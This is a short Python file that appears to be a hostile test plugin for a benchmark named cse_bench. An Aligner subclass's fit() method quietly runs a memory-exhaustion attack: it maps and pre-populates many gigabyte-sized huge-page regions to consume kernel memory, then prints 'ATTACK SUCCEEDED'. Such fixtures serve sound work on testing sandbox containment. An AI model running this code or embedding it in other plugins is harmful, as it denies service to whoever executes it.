"""Take kernel memory by touching what is never written."""

import mmap

from cse_bench import Aligner


def attack():
    held = []
    for _ in range(__MAPS__):
        view = mmap.mmap(
            -1, 1 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ
        )
        view.madvise(mmap.MADV_HUGEPAGE)
        view.madvise(22)  # MADV_POPULATE_READ
        held.append(view)
    return len(held)


class Hostile(Aligner):
    name = "hostile"

    def fit(self, source, target, evidence):
        print("ATTACK", "SUCCEEDED:", attack())
        return self

    def transform(self, shop):
        return shop.vectors * 2
